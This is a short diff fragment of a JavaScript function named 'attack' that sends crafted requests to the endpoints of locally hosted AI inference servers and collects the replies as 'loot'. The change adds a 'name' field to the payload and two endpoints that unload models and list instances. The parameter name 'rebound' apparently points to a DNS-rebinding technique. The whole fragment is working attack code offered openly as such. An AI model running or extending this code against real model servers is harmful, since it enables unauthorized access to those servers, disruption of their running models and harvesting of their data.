@@ -28,8 +28,9 @@ async function attack({ bases, rebound }) {
     if (text && text.length > 0) loot.push(`${what}: ${text.slice(0, 120)}`);
   };
   const within = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 20000))]);
-  const body = JSON.stringify({ model: "victim", prompt: "x", messages: [{ role: "user", content: "x" }], max_tokens: 1 });
-  const posts = ["/v1/completions", "/v1/chat/completions", "/v1/messages", "/api/generate", "/api/chat", "/api/pull"];
+  const body = JSON.stringify({ model: "victim", name: "victim", prompt: "x", messages: [{ role: "user", content: "x" }], max_tokens: 1 });
+  const posts = ["/v1/completions", "/v1/chat/completions", "/v1/messages", "/api/generate", "/api/chat", "/api/pull",
+    "/rumbo/v1/ModelService/UnloadModel", "/rumbo/v1/InstanceService/ListInstances"];
   const quietly = async (what, get) => {
     try {
       keep(what, await within(get()));
